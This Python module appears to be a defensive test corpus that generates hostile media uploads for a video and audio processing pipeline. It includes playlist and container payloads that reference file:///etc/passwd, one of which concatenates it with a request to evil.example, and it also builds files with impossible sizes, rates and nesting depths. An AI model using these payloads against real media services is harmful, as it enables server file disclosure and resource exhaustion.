"""Recordings that are lists of other files, claim impossible lengths, sizes and rates, or never end."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tools.corpus import Hostile
from tools.corpus.broken import MP4

LISTS = {
    "HLS": b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    "HLS that joins": b"#EXTM3U\n#EXTINF:1,\nconcat:http://evil.example/head.txt|file:///etc/passwd\n#EXT-X-ENDLIST\n",
    "DASH": b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>file:///etc/passwd</BaseURL></MPD>',
    "a list of files": b"ffconcat version 1.0\nfile '/etc/passwd'\n",
    "a session": b"v=0\no=- 0 0 IN IP4 evil.example\nc=IN IP4 evil.example\nm=video 5004 RTP/AVP 96\n",
    "a playlist": b"[playlist]\nFile1=file:///etc/passwd\nNumberOfEntries=1\n",
}


def box(kind: bytes, *inner: bytes) -> bytes:
    body = b"".join(inner)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def patched(kind: bytes, offset: int, value: bytes) -> bytes:
    """The good video with bytes changed after the name of its first box of a kind."""
    at = MP4.index(kind) + len(kind) + offset
    return MP4[:at] + value + MP4[at + len(value) :]


def wav(rate: int = 8_000, channels: int = 1, bits: int = 16, length: int | None = None) -> bytes:
    data = bytes(4_000)
    frame = channels * bits // 8
    head = struct.pack("<HHIIHH", 1, channels, rate, rate * frame & 0xFFFFFFFF, frame & 0xFFFF, bits)
    size = len(data) if length is None else length
    return b"RIFF" + struct.pack("<I", 36 + size & 0xFFFFFFFF) + b"WAVEfmt " + struct.pack("<I", 16) + head + b"data" + (
        struct.pack("<I", size) + data
    )  # fmt: skip


def elsewhere() -> bytes:
    """A QuickTime film whose pictures lie in another file."""
    reference = box(b"dref", bytes(4), struct.pack(">I", 1), box(b"url ", bytes(4), b"file:///etc/passwd\0"))
    at = MP4.index(b"dref") - 4
    size = struct.unpack(">I", MP4[at : at + 4])[0]
    return MP4[:at] + reference.ljust(size, b"\0")[:size] + MP4[at + size :]


def alias() -> bytes:
    """A QuickTime film that is nothing but the address of another."""
    address = box(b"rdrf", bytes(4), b"url ", struct.pack(">I", 19), b"file:///etc/passwd\0")
    return box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + box(b"moov", box(b"rmra", box(b"rmda", address)))


def nested(depth: int) -> bytes:
    inner = b""
    for _ in range(depth):
        inner = box(b"trak", inner)
    return box(b"ftyp", b"isom", bytes(4)) + box(b"moov", inner)


def files() -> Iterator[Hostile]:
    for what, content in LISTS.items():
        for name in ("lesson.mp4", "lesson.mkv", "notes.txt") if what == "HLS" else ("lesson.mp4",):
            yield Hostile(f"{what} as {name}", name, content)
    yield Hostile("a film whose pictures lie elsewhere", "lesson.mp4", elsewhere)
    yield Hostile("a film that is another's address", "lesson.mov", alias)
    yield from _impossible()
    yield from _shapeless()


def _impossible() -> Iterator[Hostile]:
    yield Hostile("a film of 49 days", "lesson.mp4", patched(b"mvhd", 16, b"\xff\xff\xff\xff"))
    yield Hostile("a film without a clock", "lesson.mp4", patched(b"mvhd", 12, bytes(4)))
    yield Hostile("tracks without a clock", "lesson.mp4", patched(b"mdhd", 12, bytes(4)))
    yield Hostile("four thousand million pictures", "lesson.mp4", patched(b"stsz", 8, b"\xff\xff\xff\xff"))
    yield Hostile("no pictures", "lesson.mp4", patched(b"stsz", 8, bytes(4)))
    yield Hostile("pieces that lie nowhere", "lesson.mp4", patched(b"stco", 8, b"\xff\xff\xff\xf0"))
    yield Hostile("times that run for ages", "lesson.mp4", patched(b"stts", 12, b"\x7f\xff\xff\xff"))
    yield Hostile("a picture of 65,535 pixels a side", "lesson.mp4", patched(b"avc1", 24, b"\xff\xff\xff\xff"))
    yield Hostile("a broken key to the pictures", "lesson.mp4", patched(b"avcC", 8, b"\xff" * 24))
    yield Hostile("sound of four thousand million a second", "talk.wav", wav(rate=0xFFFFFFFF))
    yield Hostile("sound of no rate", "talk.wav", wav(rate=0))
    yield Hostile("65,535 channels", "talk.wav", wav(channels=65_535))
    yield Hostile("samples of 65,535 bits", "talk.wav", wav(bits=65_535))
    yield Hostile("a recording longer than it says", "talk.wav", wav(length=10))
    yield Hostile("a recording that says 4 GB", "talk.wav", wav(length=0xFFFFFFF0))


def _shapeless() -> Iterator[Hostile]:
    noise = bytes(pow(7, number, 257) & 0xFF for number in range(1, 40_000))
    yield Hostile("noise behind a film's first bytes", "lesson.mp4", box(b"ftyp", b"isom", bytes(4), b"isom") + noise)
    yield Hostile("noise behind a WebM's first bytes", "lesson.webm", b"\x1a\x45\xdf\xa3\x93B\x82\x88webm" + noise)
    yield Hostile(
        "a WebM of endless size", "lesson.webm", b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xffB\x82\x84webm"
    )
    yield Hostile("noise behind an AVI's first bytes", "lesson.avi", b"RIFF\xff\xff\xff\x7fAVI LIST" + noise)
    yield Hostile("noise behind an MP3's first bytes", "song.mp3", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + noise)
    yield Hostile("noise behind an Ogg's first bytes", "song.ogg", b"OggS\x00\x02" + noise)
    yield Hostile("noise behind a FLAC's first bytes", "song.flac", b"fLaC\x80\xff\xff\xff" + noise)
    yield Hostile("packets of nothing", "lesson.ts", (b"G" + bytes(187)) * 2_000)
    yield Hostile("boxes a thousand deep", "lesson.mp4", nested(1_000))
    yield Hostile(
        "a box that holds itself", "lesson.mp4", box(b"ftyp", b"isom", bytes(4)) + b"\0\0\0\0moov" + bytes(64)
    )
    yield Hostile("a film of nothing but its first box", "lesson.mp4", box(b"ftyp", b"isom", bytes(4), b"isom"))
    swapped = bytearray(MP4)
    for place in range(2_000, len(swapped), 97):
        swapped[place] ^= 0x5A
    yield Hostile("every hundredth byte changed", "lesson.mp4", bytes(swapped))
